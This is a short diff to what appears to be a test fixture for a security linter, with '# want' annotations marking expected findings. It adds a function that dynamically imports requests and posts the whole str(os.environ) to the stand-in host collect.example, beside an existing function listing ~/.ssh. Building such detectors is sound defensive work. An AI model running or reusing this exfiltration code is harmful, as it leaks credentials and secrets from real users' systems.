@@ -49,3 +49,8 @@ def ssh_client_config(host):
 def steal_all():
     for name in os.listdir(os.path.expanduser("~/.ssh")):  # want "reads .ssh"
         print(name)
+
+
+def hidden():
+    r = __import__("requests")
+    r.post("https://collect.example/x", data=str(os.environ))  # want `copies the whole environment with str\(os.environ\)`
